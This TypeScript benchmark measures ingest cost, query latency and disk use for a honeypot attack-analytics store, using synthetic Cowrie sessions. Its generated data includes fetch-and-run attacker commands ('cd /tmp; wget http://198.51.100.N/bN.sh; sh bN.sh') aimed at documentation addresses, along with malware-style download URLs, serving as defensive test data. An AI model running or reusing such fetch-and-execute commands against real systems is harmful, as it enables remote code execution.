// Attack analytics: ingest cost and query latency at fleet scale.
//
//  1. Ingest: gateway-shaped cowrie events through the real events service (normalise, JSON, batch
//     INSERT) with the analytics ingest (its fold thread: record, geo/ASN lookup, counters; the
//     writer: rollups, attackers, sessions), against the same service without it, in one burst.
//     Prints events/s and CPU µs/event (all threads). bench/events.ts measures a steady rate.
//  2. Scale: `--events` (default 10M) synthetic events over 30 days from ~200k public addresses
//     (Zipf-like), the first day folded by the real code, the rest generated from it with SQL
//     (the events rows themselves are not needed by any analytics query and are not written). Batches
//     of --fold-batch events (default 20 000): the rollups come out the same whatever the batch size,
//     larger batches just fill them faster; the writer-sized cost is what step 1 measures.
//     Hour and day top-K summaries are then built for every folded hour and day (a dataset kept
//     from before hour summaries gets them on its next run).
//  3. Queries: p50/p99 of every analytics query for a 24 h and a 30 d window, random end times,
//     after one untimed run of each.
//  4. Disk: analytics bytes per million events (dbstat).
//
//   node --import tsx bench/analytics.ts [--events 10000000] [--ingest 200000 (0: skip)] [--iterations 30]
//                                        [--db FILE (keep the 10M dataset there, reuse it next time)]
import { execSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { parseArgs } from 'node:util';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import type { FastifyBaseLogger } from 'fastify';
import { aggregateBatch } from '../src/analytics/aggregate.js';
import { analyticsWriterHook, buildStixBundle, createAggregateContext, DIMENSIONS, SqliteAttackStore, type StoredEvent } from '../src/analytics/index.js';
import { openDatabase, ReadPool } from '../src/db/index.js';
import { createEventService, eventQueryModules, SqliteEventStore, type AttackEvent } from '../src/events/index.js';
import { tempDir } from '../test/helpers/tmp.js';
import { seededRandom } from '../test/helpers/random.js';

const { values: args } = parseArgs({
  options: {
    events: { type: 'string', default: '10000000' },
    ingest: { type: 'string', default: '200000' },
    iterations: { type: 'string', default: '30' },
    'fold-batch': { type: 'string', default: '20000' },
    db: { type: 'string' },
  },
});
const TOTAL = Number(args.events);
const INGEST = Number(args.ingest);
const ITER = Number(args.iterations);
const H = 3_600_000;
const D = 86_400_000;
const load = () => execSync('uptime').toString().trim().replace(/^.*load average/, 'load average');
const logger = pino({ level: 'silent' }) as unknown as FastifyBaseLogger;

const rng = seededRandom;

/** Public-looking IPv4 addresses (first octet 1..223 minus 10/127), a fixed pool. */
function addressPool(n: number, r: () => number): string[] {
  const out: string[] = [];
  while (out.length < n) {
    const a = 1 + Math.floor(r() * 223);
    if (a === 10 || a === 127 || a === 100 || a === 172 || a === 192 || a === 198 || a === 203 || a === 169) continue;
    out.push(`${a}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`);
  }
  return out;
}

/** Zipf-ish index into n items: a few are very frequent, the tail is long. */
const zipf = (r: () => number, n: number) => Math.min(n - 1, Math.floor(n * Math.pow(r(), 3)));

/** Cowrie-shaped synthetic sessions: connect, logins, maybe commands and a download, close. */
class Traffic {
  private readonly r: () => number;
  private readonly ips: string[];
  private readonly users = Array.from({ length: 1000 }, (_, i) => (i < 8 ? ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test', 'user', 'git'][i]! : `user${i}`));
  private readonly passwords = Array.from({ length: 5000 }, (_, i) => `pw${i * 7919}`);
  private readonly commands = Array.from({ length: 500 }, (_, i) => `cd /tmp; wget http://198.51.100.${i % 250}/b${i}.sh; sh b${i}.sh`);
  private readonly urls = Array.from({ length: 2000 }, (_, i) => `http://203.0.113.${i % 250}/m${i}.bin`);
  private readonly hashes = Array.from({ length: 2000 }, (_, i) => (i.toString(16).padStart(8, '0')).repeat(8));
  private session: { id: string; ip: string; node: string; left: number; loggedIn: boolean } | undefined;
  private seq = 0;

  constructor(seed: number, ipCount: number) {
    this.r = rng(seed);
    this.ips = addressPool(ipCount, this.r);
  }

  next(ts: number): { node: string; eventid: string; data: Record<string, unknown> } {
    const r = this.r;
    if (this.session === undefined || this.session.left === 0) {
      const s = (this.session = {
        id: (this.seq++).toString(16).padStart(12, '0'),
        ip: this.ips[zipf(r, this.ips.length)]!,
        node: `node-${Math.floor(r() * 50)}`,
        left: 3 + Math.floor(r() * 10),
        loggedIn: false,
      });
      return { node: s.node, eventid: 'cowrie.session.connect', data: { eventid: 'cowrie.session.connect', session: s.id, src_ip: s.ip, src_port: 40000, dst_ip: '10.0.0.5', dst_port: r() < 0.8 ? 22 : 23, protocol: r() < 0.8 ? 'ssh' : 'telnet' } };
    }
    const s = this.session;
    s.left--;
    const base = { session: s.id, src_ip: s.ip };
    if (s.left === 0) return { node: s.node, eventid: 'cowrie.session.closed', data: { eventid: 'cowrie.session.closed', ...base, duration: 12 } };
    if (!s.loggedIn) {
      const ok = r() < 0.15;
      s.loggedIn = ok;
      const eventid = ok ? 'cowrie.login.success' : 'cowrie.login.failed';
      return { node: s.node, eventid, data: { eventid, ...base, username: this.users[zipf(r, this.users.length)], password: this.passwords[zipf(r, this.passwords.length)] } };
    }
    if (r() < 0.15) {
      return { node: s.node, eventid: 'cowrie.session.file_download', data: { eventid: 'cowrie.session.file_download', ...base, url: this.urls[zipf(r, this.urls.length)], shasum: this.hashes[zipf(r, this.hashes.length)] } };
    }
    return { node: s.node, eventid: 'cowrie.command.input', data: { eventid: 'cowrie.command.input', ...base, input: this.commands[zipf(r, this.commands.length)] } };
  }
}

function pct(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

// ------------------------------------------------------------------ 1. ingest through the events service

// As the core runs it: the ingest is the writer thread's batch hook. CPU is the whole process's
// (main thread and writer thread).
async function ingestRun(withAnalytics: boolean): Promise<{ rate: number; cpuUs: number }> {
  const dir = tempDir('apiary-bench-analytics-');
  const db = openDatabase(`${dir.path}/a.sqlite`);
  const readPool = new ReadPool({ dbPath: db.path, modules: eventQueryModules(), size: 1 });
  const eventStore = new SqliteEventStore({ dbPath: db.path, readPool, batchHooks: withAnalytics ? [{ url: analyticsWriterHook(), options: {} }] : [] });
  const svc = createEventService({ store: eventStore, logger, registry: new Registry(), batch: { maxDelayMs: 10, maxSize: 1000 } });
  // The writer thread loads its hook (and the geo databases) before the clock starts.
  await svc.flush();
  const traffic = new Traffic(1, 100_000);
  const start = Date.now() - D;
  const msgs: AttackEvent[] = [];
  for (let i = 0; i < INGEST; i++) {
    const t = traffic.next(start + i * 10);
    msgs.push({
      nodeName: t.node,
      receivedAt: start + i * 10,
      message: { type: 'PotEvent', pot_id: 'cowrie-1', pot_type: 'cowrie', event_type: t.eventid, timestamp: new Date(start + i * 10).toISOString(), data: t.data },
    });
  }
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  for (const m of msgs) svc.ingest(m);
  await svc.flush();
  await svc.close();
  // Closing the writer writes the analytics still buffered (the ingest writes about once a second).
  await eventStore.close();
  const ms = performance.now() - t0;
  const cpu = process.cpuUsage(cpu0);
  await readPool.close();
  db.close();
  dir.cleanup();
  return { rate: INGEST / (ms / 1000), cpuUs: (cpu.user + cpu.system) / INGEST };
}

console.log(`# analytics bench  (${load()})`);
if (INGEST > 0) {
  const base = await ingestRun(false);
  const full = await ingestRun(true);
  console.log(`ingest, events only:            ${Math.round(base.rate).toLocaleString()} events/s, ${base.cpuUs.toFixed(1)} µs CPU/event`);
  console.log(`ingest, + analytics (geo on):   ${Math.round(full.rate).toLocaleString()} events/s, ${full.cpuUs.toFixed(1)} µs CPU/event  (${load()})`);
}

// ------------------------------------------------------------------ 2. 10M events into the rollups
// The first day (--events / 30) is folded through the real aggregate + store code. The other 29
// days are made from it with SQL, fast: every row is shifted by d days; keys seen once in an hour
// (the long tail: one-off addresses, passwords, commands) get a per-day suffix so they are new
// keys each day, while the heavy hitters recur, as on a real fleet. Attackers seen at most twice
// and all sessions (with their steps) are copied the same way; day rows are then folded from the
// hours by the store's own folding statement.

// --db FILE keeps the dataset there and reuses it on the next run (same --events), since building
// it takes minutes; the dataset's "now" is stored with it.
const dir = tempDir('apiary-bench-analytics-');
const DB_PATH = args.db ?? `${dir.path}/scale.sqlite`;
const reusable = args.db !== undefined && existsSync(args.db);
const db = openDatabase(DB_PATH);
const benchMeta = (key: string) => db.sqlite.prepare('SELECT value FROM attack_meta WHERE key = ?').pluck().get(key) as number | undefined;
const cached = reusable && benchMeta('bench_events') === TOTAL && benchMeta('bench_now') !== undefined;
if (reusable && !cached) throw new Error(`${DB_PATH} holds another dataset: remove it or pass another --db`);
const ctx = createAggregateContext({});
const store = new SqliteAttackStore(db.sqlite);
const write = db.sqlite.transaction((batch: StoredEvent[]) => store.write(aggregateBatch(batch, ctx)));
const NOW = cached ? benchMeta('bench_now')! : Math.floor(Date.now() / D) * D;
const FROM = NOW - 30 * D;
if (!cached) {
const traffic = new Traffic(2, 200_000);
const BATCH = Number(args['fold-batch']);
const PER_DAY = Math.floor(TOTAL / 30);
let batch: StoredEvent[] = [];
const t0 = performance.now();
const cpu0 = process.cpuUsage();
for (let i = 0; i < PER_DAY; i++) {
  const ts = FROM + Math.floor((i / PER_DAY) * D);
  const t = traffic.next(ts);
  batch.push({ id: i + 1, node: t.node, potId: 'cowrie-1', potType: 'cowrie', eventType: t.eventid, timestamp: ts, data: t.data });
  if (batch.length === BATCH) {
    write(batch);
    batch = [];
  }
}
if (batch.length > 0) write(batch);
const foldS = (performance.now() - t0) / 1000;
const foldCpu = process.cpuUsage(cpu0);
console.log(`fold day 1: ${PER_DAY.toLocaleString()} events in batches of ${BATCH} (record + geo + rollups): ${Math.round(PER_DAY / foldS).toLocaleString()} events/s, ${((foldCpu.user + foldCpu.system) / PER_DAY).toFixed(1)} µs CPU/event  (${load()})`);

const h0 = FROM / H;
const tail = '(1, 5, 6, 7, 8, 9, 10)'; // src_ip, username, password, credential, command, url, hash
const maxSession = db.sqlite.prepare('SELECT max(id) FROM attack_sessions').pluck().get() as number;
const replicate = db.sqlite.transaction((d: number) => {
  const hourCopy = db.sqlite.prepare(
    `INSERT INTO attack_rollup_hour (dim, bucket, node, pot_type, key, count)
     SELECT dim, bucket + 24 * @d, node, pot_type, CASE WHEN count = 1 AND dim IN ${tail} THEN key || '~' || @d ELSE key END, count
     FROM attack_rollup_hour WHERE dim = @dim AND bucket >= @h0 AND bucket < @h0 + 24
     ON CONFLICT (dim, bucket, node, pot_type, key) DO UPDATE SET count = count + excluded.count`,
  );
  for (const dim of [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10]) hourCopy.run({ d, dim, h0 });
  db.sqlite.prepare(
    `INSERT INTO attack_minute (bucket, node, pot_type, count) SELECT bucket + 1440 * ?, node, pot_type, count FROM attack_minute WHERE bucket < ?`,
  ).run(d, (FROM + D) / 60_000);
  db.sqlite.prepare(
    `INSERT INTO attackers SELECT ip || '~' || @d, first_seen + @shift, last_seen + @shift, events, scope, country, asn, as_org, city, latitude, longitude,
       scanner, logins_failed, logins_ok, commands, downloads FROM attackers WHERE events <= 2 AND first_seen < @lim AND instr(ip, '~') = 0`,
  ).run({ d, shift: d * D, lim: FROM + D });
  db.sqlite.prepare(
    `INSERT INTO attacker_facts SELECT f.ip || '~' || @d, f.kind, f.value, f.count, f.first_seen + @shift, f.last_seen + @shift
     FROM attacker_facts f JOIN attackers a ON a.ip = f.ip WHERE a.events <= 2 AND instr(a.ip, '~') = 0`,
  ).run({ d, shift: d * D });
  db.sqlite.prepare(
    `INSERT INTO attack_sessions (node, pot_id, pot_type, session, src_ip, src_port, dest_ip, dest_port, protocol, started_at, last_seen, closed,
       events, logins_failed, username, password)
     SELECT node, pot_id, pot_type, session || '~' || @d, src_ip, src_port, dest_ip, dest_port, protocol, started_at + @shift, last_seen + @shift, closed,
       events, logins_failed, username, password FROM attack_sessions WHERE id <= @lim ORDER BY id`,
  ).run({ d, shift: d * D, lim: maxSession });
  db.sqlite.prepare(
    `INSERT INTO attack_session_steps SELECT s.id + @d * @lim, st.event_id, st.at + @shift, st.kind, st.value, st.detail
     FROM attack_session_steps st JOIN attack_sessions s ON s.id = st.session_id WHERE s.id <= @lim`,
  ).run({ d, shift: d * D, lim: maxSession });
});
const r0 = performance.now();
for (let d = 1; d < 30; d++) replicate(d);
// Heavy hitters recur every day.
db.sqlite.prepare(`UPDATE attackers SET events = events * 30, last_seen = last_seen + ? WHERE events > 2 AND instr(ip, '~') = 0`).run(29 * D);
db.sqlite.exec('DELETE FROM attack_rollup_day');
const compact = db.sqlite.prepare(
  `INSERT INTO attack_rollup_day (dim, bucket, node, pot_type, key, count)
   SELECT dim, bucket / 24, node, pot_type, key, sum(count) FROM attack_rollup_hour WHERE dim = ? AND bucket >= 0
   GROUP BY dim, bucket / 24, node, pot_type, key`,
);
for (const dim of [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10]) compact.run(dim);
db.sqlite.prepare(`INSERT OR REPLACE INTO attack_meta (key, value) VALUES ('day_rollup_until_hour', ?)`).run(NOW / H);
console.log(`replicated to 30 days with SQL in ${((performance.now() - r0) / 1000).toFixed(0)} s  (${load()})`);
// The writer builds one per-day top-K summary per write; the SQL-made days get theirs here.
const s0 = performance.now();
const built = db.sqlite.transaction(() => store.summariseFolded("day"))();
console.log(`day top-K summaries: ${built} (day, dim) built in ${((performance.now() - s0) / 1000).toFixed(0)} s, ${((performance.now() - s0) / Math.max(1, built)).toFixed(0)} ms each (the writer builds one per write)  (${load()})`);
db.sqlite.prepare(`INSERT OR REPLACE INTO attack_meta (key, value) VALUES ('bench_now', ?), ('bench_events', ?)`).run(NOW, TOTAL);
db.sqlite.pragma('wal_checkpoint(TRUNCATE)');
db.sqlite.exec('ANALYZE');
}
// Hour summaries: built here for the SQL-made hours (the writer builds each hour's right after it
// ends), and for a dataset kept from before they existed.
{
  const s0 = performance.now();
  const built = db.sqlite.transaction(() => store.summariseFolded('hour'))();
  if (built > 0) {
    console.log(`hour top-K summaries: ${built} (hour, dim) built in ${((performance.now() - s0) / 1000).toFixed(0)} s, ${((performance.now() - s0) / built).toFixed(1)} ms each  (${load()})`);
    db.sqlite.pragma('wal_checkpoint(TRUNCATE)');
    db.sqlite.exec('ANALYZE');
  }
}
const events = db.sqlite.prepare('SELECT sum(count) FROM attack_rollup_day WHERE dim = 0').pluck().get() as number;
console.log(`${events.toLocaleString()} events in the rollups${cached ? ` (dataset reused from ${DB_PATH})` : ''}`);

// ------------------------------------------------------------------ 3. queries

const qr = rng(3);
const someIps = (db.sqlite.prepare('SELECT ip FROM attackers ORDER BY events DESC LIMIT 1000').pluck().all() as string[]);
const someSessions = (db.sqlite.prepare('SELECT id FROM attack_sessions ORDER BY id DESC LIMIT 1000').pluck().all() as number[]);

function measure(name: string, windowMs: number, fn: (since: number, until: number) => unknown): void {
  const times: number[] = [];
  // One untimed run first: the core keeps its statements prepared and its pages cached.
  fn(NOW - windowMs, NOW);
  for (let i = 0; i < ITER; i++) {
    const until = NOW - Math.floor(qr() * Math.max(1, 30 * D - windowMs));
    const since = until - windowMs;
    const t = performance.now();
    fn(since, until);
    times.push(performance.now() - t);
  }
  times.sort((a, b) => a - b);
  const label = windowMs >= 30 * D ? '30d' : windowMs >= D ? '24h' : `${Math.round(windowMs / H)}h`;
  console.log(`${name.padEnd(34)} ${label.padStart(4)}  p50 ${pct(times, 50).toFixed(1).padStart(7)} ms  p99 ${pct(times, 99).toFixed(1).padStart(7)} ms`);
}

console.log(`\n# queries, ${ITER} runs each, random window ends  (${load()})`);
for (const w of [D, 30 * D]) {
  for (const by of DIMENSIONS) measure(`top by=${by}`, w, (since, until) => store.top({ by, since, until, limit: 10 }));
  measure('top by=src_ip node=node-7', w, (since, until) => store.top({ by: 'src_ip', since, until, node: 'node-7', limit: 10 }));
  measure('timeline hour', w, (since, until) => store.timeline({ bucket: 'hour', since, until, limit: 5 }));
  measure('timeline day', w, (since, until) => store.timeline({ bucket: 'day', since, until, limit: 5 }));
  measure('timeline day by=country', w, (since, until) => store.timeline({ bucket: 'day', since, until, by: 'country', limit: 5 }));
  measure('timeline hour by=src_ip', w, (since, until) => store.timeline({ bucket: 'hour', since, until, by: 'src_ip', limit: 5 }));
  if (w === D) measure('timeline minute', w, (since, until) => store.timeline({ bucket: 'minute', since, until, limit: 5 }));
  measure('sessions list (window)', w, (since, until) => store.sessions({ since, until, limit: 100 }));
  measure('intel ips (since)', w, (since) => store.intelIps({ since, minCount: 5, limit: 1000 }));
  measure('intel stix (since, 1000 per kind)', w, (since, until) =>
    buildStixBundle({ identityName: 'bench', now: until, ips: store.intelIps({ since, minCount: 1, limit: 1000 }), urls: store.indicators('url', since, until, 1000), hashes: store.indicators('hash', since, until, 1000) }));
}
measure('attacker profile (top 1000 ips)', D, () => store.attacker(someIps[Math.floor(qr() * someIps.length)]!, 100));
measure('session detail', D, () => store.session(someSessions[Math.floor(qr() * someSessions.length)]!));

// ------------------------------------------------------------------ 4. disk

const sizes = db.sqlite.prepare("SELECT name, sum(pgsize) AS bytes FROM dbstat WHERE name LIKE 'attack%' OR name LIKE 'sqlite_autoindex_attack%' GROUP BY name ORDER BY bytes DESC").all() as { name: string; bytes: number }[];
const total = sizes.reduce((s, r) => s + r.bytes, 0);
console.log(`\n# disk: analytics tables ${(total / 1e6).toFixed(0)} MB for ${events.toLocaleString()} events = ${(total / 1e6 / (events / 1e6)).toFixed(1)} MB per million events`);
for (const s of sizes) console.log(`  ${s.name.padEnd(36)} ${(s.bytes / 1e6).toFixed(1)} MB`);
console.log(`rss ${(process.memoryUsage().rss / 1e6).toFixed(0)} MB  (${load()})`);
db.close();
dir.cleanup();
